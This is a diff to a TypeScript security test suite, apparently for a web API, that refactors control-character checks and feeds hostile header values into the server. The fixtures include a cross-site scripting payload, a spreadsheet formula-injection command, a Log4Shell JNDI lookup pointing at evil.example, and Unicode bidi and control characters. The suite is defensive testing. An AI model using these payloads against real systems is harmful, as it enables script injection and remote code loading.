@@ -35,6 +35,8 @@ afterAll(() => ground.close())
 
 const anybody = (path: string): Route => ({ method: "POST", path, security: [], body: {} })
 const marker = "zqMARKERqz"
+/** Everything but the line break and the tab, which a mail has of its own. */
+const controls = /(?![\n\t])[\p{Cc}\u2028\u2029]/u
 
 describe("a body that means no good", () => {
   const deep = (levels: number, open: string, close: string): string => open.repeat(levels) + close.repeat(levels)
@@ -154,7 +156,7 @@ describe("what stands in headers", () => {
       "Evil \u0085next \u00a0blank",
       `<script>alert(1)</script><img src=x onerror="1">`,
       "=cmd|'/C calc'!A0",
-      `${"A".repeat(8000)}`,
+      "A".repeat(8000),
       Buffer.from("\u2028\u2029\u202eevil \ud83e\udd8a", "utf8").toString("latin1"),
       "Mozilla/5.0 (%s %n {0} ${jndi:ldap://evil.example/a})",
     ]
@@ -174,7 +176,7 @@ describe("what stands in headers", () => {
       ground.server.clock.advance(3600)
     }
     for (const { subject, text, html } of await ground.server.mails.to(who.email)) {
-      expect(`${subject}${text}`).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u0085\u2028\u2029]/)
+      expect(`${subject}${text}`).not.toMatch(controls)
       expect(html).not.toMatch(/<script|<img|onerror/)
       expect(text).not.toContain("Bcc:")
       expect(text).not.toContain("jndi")
@@ -182,7 +184,7 @@ describe("what stands in headers", () => {
     const browser = await ground.signedIn(who, { agent: agents[6] ?? "" })
     for (const path of ["/v1/activity?limit=100", "/v1/sessions"]) {
       const { text } = must(await browser.get(path), 200)
-      expect(text).not.toMatch(/[\u0000-\u001f\u0085\u2028\u2029]/)
+      expect(text).not.toMatch(controls)
       for (const match of text.matchAll(/"agent":"((?:[^"\\]|\\.)*)"/g))
         expect(match[1]?.length).toBeLessThanOrEqual(420)
     }
